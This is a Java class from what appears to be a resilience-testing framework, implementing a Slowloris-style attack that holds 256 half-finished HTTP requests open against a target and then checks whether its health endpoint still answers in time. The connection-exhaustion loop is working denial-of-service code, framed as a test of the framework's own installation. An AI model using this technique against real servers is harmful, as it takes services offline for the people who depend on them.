package dev.parallax.attack.stranger;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.parallax.attack.Attack;
import dev.parallax.attack.AttackRecord;
import dev.parallax.attack.AttackResult;
import dev.parallax.attack.Installation;
import java.io.IOException;
import java.time.Duration;
import java.util.Optional;

/** 256 connections on the HTTP port, each with half a request, opened again when they are cut. */
public final class HalfRequests implements Attack {
  private static final int CONNECTIONS = 256;
  private static final Duration IN_TIME = Duration.ofSeconds(2);

  private final HeldSockets sockets = new HeldSockets();
  private int asked;
  private int answered;

  @Override
  public String name() {
    return "stranger/half-requests";
  }

  @Override
  public String launch(Installation at) throws InterruptedException {
    long end = at.end();
    int opened = 0;
    while (System.nanoTime() < end) {
      opened += fill(at);
      asked++;
      answered += answers(at) ? 1 : 0;
      Thread.sleep(250);
    }
    return opened + " half requests, " + CONNECTIONS + " at a time";
  }

  private int fill(Installation at) {
    sockets.dropClosed();
    int opened = 0;
    while (sockets.count() < CONNECTIONS) {
      try {
        var request = "GET / HTTP/1.1\r\nHost: 127".getBytes(US_ASCII);
        sockets.open(at.web(), 500).getOutputStream().write(request);
        opened++;
      } catch (IOException refused) {
        break;
      }
    }
    return opened;
  }

  private static boolean answers(Installation at) {
    try {
      return at.webPort().get("/healthz", Optional.empty(), IN_TIME).status() == 200;
    } catch (IOException late) {
      return false;
    }
  }

  @Override
  public AttackResult judge(AttackRecord evidence) {
    return AttackResult.of(
        answered == asked, "%d of %d whole requests answered in time".formatted(answered, asked));
  }

  @Override
  public void close() {
    sockets.close();
  }
}
